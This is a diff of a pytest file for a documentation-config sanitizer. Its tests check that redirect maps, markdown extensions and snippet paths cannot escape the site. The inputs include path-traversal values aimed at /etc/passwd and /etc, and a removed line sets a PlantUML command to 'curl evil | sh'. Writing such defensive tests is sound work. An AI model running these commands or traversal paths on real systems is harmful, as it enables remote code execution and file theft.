@@ -85,16 +85,17 @@ def test_an_admin_can_allow_an_extra_plugin() -> None:
     "maps", ["{'../../../../tmp/evil.md': index.md}", "{old.md: ../../../etc/passwd}"]
 )
 def test_redirects_cannot_write_or_point_outside_the_site(maps: str) -> None:
-    with pytest.raises(DocsBuildFailed, match=r"plugin redirects option .* points outside"):
+    with pytest.raises(DocsBuildFailed, match=r"plugin redirects\.redirect_maps .* points outside"):
         sanitize(f"site_name: x\nplugins:\n  - redirects:\n      redirect_maps: {maps}\n")
 
 
-def test_redirects_inside_the_site_and_to_urls_are_fine() -> None:
+def test_redirects_inside_the_site_are_fine() -> None:
     result = sanitize(
         "site_name: x\nplugins:\n  - redirects:\n      redirect_maps:\n"
-        "        old.md: guides/new.md\n        gone.md: https://example.com/\n"
+        "        old.md: guides/new.md\n        moved.md: 'guides/new.md#setup'\n"
     )
-    assert result.config["plugins"][0]["redirects"]["redirect_maps"]["old.md"] == "guides/new.md"
+    maps = result.config["plugins"][0]["redirects"]["redirect_maps"]
+    assert maps == {"old.md": "guides/new.md", "moved.md": "guides/new.md#setup"}
 
 
 def test_search_is_added_so_every_site_has_a_search_index() -> None:
@@ -117,21 +118,22 @@ def test_unknown_markdown_extension_is_refused() -> None:
         sanitize("site_name: x\nmarkdown_extensions: [toc, evil_ext]\n")
 
 
-def test_extension_options_are_kept_but_dangerous_ones_removed() -> None:
+def test_extension_options_that_pass_their_schema_are_kept() -> None:
     result = sanitize(
         "site_name: x\nmarkdown_extensions:\n  - toc: {permalink: true}\n"
-        "  - plantuml_markdown: {plantuml_cmd: 'curl evil | sh'}\n"
-        "  - pymdownx.snippets: {restrict_base_path: false, url_download: true}\n"
+        "  - plantuml_markdown: {format: svg, plantuml_cmd: plantuml}\n"
+        "  - pymdownx.snippets: {base_path: [docs], url_download: false}\n"
     )
     toc, plantuml, snippets = result.config["markdown_extensions"]
     assert toc == {"toc": {"permalink": True}}
-    assert plantuml == "plantuml_markdown"
-    assert snippets == {"pymdownx.snippets": {"restrict_base_path": True}}
-    assert len(result.warnings) == 2
+    assert plantuml == {"plantuml_markdown": {"format": "svg", "plantuml_cmd": "plantuml"}}
+    options = {"base_path": ["docs"], "url_download": False, "restrict_base_path": True}
+    assert snippets == {"pymdownx.snippets": options}
+    assert result.warnings == ()
 
 
 def test_snippet_base_path_outside_the_repository_is_refused() -> None:
-    with pytest.raises(DocsBuildFailed, match="base_path '/etc' points outside"):
+    with pytest.raises(DocsBuildFailed, match=r"snippets\.base_path '/etc' points outside"):
         sanitize("site_name: x\nmarkdown_extensions:\n  - pymdownx.snippets: {base_path: [/etc]}\n")
 
 
